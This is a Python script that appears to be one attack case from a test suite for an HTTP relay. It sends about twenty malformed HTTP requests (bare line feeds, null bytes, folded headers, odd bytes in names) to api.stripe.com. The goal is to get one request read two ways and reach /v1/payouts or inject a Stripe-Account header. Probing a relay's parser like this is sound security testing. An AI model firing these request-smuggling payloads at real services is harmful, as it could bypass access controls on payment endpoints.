# attack: bare line feeds, tabs, nulls and folds make a request line one line for this and two for that reader
# expect: broker
# validator: refused
import socket
import ssl


def speak(text, wait=0.15):
    """All that the relay says to these bytes on one connection."""
    plain = socket.create_connection(("api.stripe.com", 443), 1)
    with ssl.create_default_context().wrap_socket(plain, server_hostname="api.stripe.com") as tls:
        tls.settimeout(wait)
        answer = b""
        try:
            tls.sendall(text)
            while piece := tls.recv(65536):
                answer += piece
        except OSError:
            pass
        return answer


HOST = b"Host: api.stripe.com\r\n"
TEXTS = {
    "bare line feeds": b"GET /v1/customers/cus_1 HTTP/1.1\nHost: api.stripe.com\nX: y\n\n",
    "return alone": b"GET /v1/customers/cus_1 HTTP/1.1\rHost: api.stripe.com\r\r",
    "tabs": b"GET\t/v1/payouts\tHTTP/1.1\r\n" + HOST + b"\r\n",
    "two blanks": b"GET  /v1/payouts  HTTP/1.1\r\n" + HOST + b"\r\n",
    "blank in the target": b"GET /v1/customers/cus_1 /v1/payouts HTTP/1.1\r\n" + HOST + b"\r\n",
    "version twice": b"GET /v1/customers/cus_1 HTTP/1.1 HTTP/1.1\r\n" + HOST + b"\r\n",
    "null in the target": b"GET /v1/customers/cus_1\0/v1/payouts HTTP/1.1\r\n" + HOST + b"\r\n",
    "folded header": b"GET /v1/customers/cus_1 HTTP/1.1\r\n" + HOST + b"X: y\r\n Stripe-Account: acct_1\r\n\r\n",
    "fold right after the line": b"GET /v1/customers/cus_1 HTTP/1.1\r\n Stripe-Account: acct_1\r\n" + HOST + b"\r\n",
    "header without a colon": b"GET /v1/customers/cus_1 HTTP/1.1\r\n" + HOST + b"Stripe-Account\r\n\r\n",
    "header without a name": b"GET /v1/customers/cus_1 HTTP/1.1\r\n" + HOST + b": acct_1\r\n\r\n",
    "null in a name": b"GET /v1/customers/cus_1 HTTP/1.1\r\n" + HOST + b"Stripe-Account\0X: acct_1\r\n\r\n",
    "high bytes in a name": b"GET /v1/customers/cus_1 HTTP/1.1\r\n" + HOST + b"\xc5\xbftripe-Account: acct_1\r\n\r\n",
    "vertical tab in a value": b"GET /v1/customers/cus_1 HTTP/1.1\r\n" + HOST + b"X: y\x0bStripe-Account: acct_1\r\n\r\n",
    "next line in a value": b"GET /v1/customers/cus_1 HTTP/1.1\r\n" + HOST + b"X: y\x85Stripe-Account: acct_1\r\n\r\n",
    "lower-case version": b"GET /v1/payouts http/1.1\r\n" + HOST + b"\r\n",
    "version 1.9": b"GET /v1/payouts HTTP/1.9\r\n" + HOST + b"\r\n",
    "fragment": b"GET /v1/customers/cus_1#/../../payouts HTTP/1.1\r\n" + HOST + b"\r\n",
    "lower-case method": b"get /v1/payouts HTTP/1.1\r\n" + HOST + b"\r\n",
    "method with a path": b"GET/v1/payouts /v1/customers/cus_1 HTTP/1.1\r\n" + HOST + b"\r\n",
    "eleven thousand headers": b"GET /v1/customers/cus_1 HTTP/1.1\r\n" + HOST + b"X: y\r\n" * 11000 + b"\r\n",
}
for name, text in TEXTS.items():
    answer = speak(text, 0.1)
    print(name, answer[:30])
    body = answer.partition(b"\r\n\r\n")[2]
    if b'"target": "/v1/payouts"' in body or b'"stripe-account"' in body or b'"\xc5\xbftripe' in body:
        print("ESCAPED: two readings of one request:", name, flush=True)
